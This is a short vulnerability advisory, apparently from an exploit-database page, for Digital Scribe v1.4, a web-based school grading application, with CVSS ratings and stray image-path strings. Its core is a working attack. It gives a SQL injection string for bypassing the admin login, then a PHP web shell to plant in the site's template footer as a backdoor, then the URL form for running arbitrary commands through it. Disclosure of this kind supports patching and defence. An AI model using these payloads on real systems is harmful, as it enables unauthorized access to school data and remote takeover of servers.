Digital Scribe v1.4 Login Bypass / SQL injection / remote code execution

Risk: Medium
Local: No
Remote: Yes

CVSS BaseScore: 7.5/10
Impact Subscore: 6.4/10
Exploitability Subscore: 10/10
Exploit range: Remote
Attack complexity: Low
Authentication: No required
Confidentiality impact: Partial
Integrity impact: Partial
Availability impact: Partial

DigitalScribe v1.4 Login Bypass / SQL injection / remote code execution software: site: description: "Teachers have full control through a web-based interface. Designed for easy installation and even easier use, the Digital Scribe has been used in thousands of schools. No teacher or IT Personnel needsto know any computer languages in order to install and use this intuitive system. 1) Login Bypass / SQL Injection *** login as admin typing: login: " or isnull(1/0) /* password: [whatever] 2) remote code execution *** now you can edit template and leave a backdoor on target system: at the end of the footer try this: <?php error_reporting(0);system($HTTP_GET_VARS[cmd]); ?> then you can launch commands:http://[target]/[path_to_dscribe]/index.php?cmd=[some_command] rgod site: email: retrogod at aliceposta it original advisory: *** ********

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{x.ux * 1000 | date:'HH:mm' }} CET+1{{ x.comment }}

Copyright 2024,


Back to Top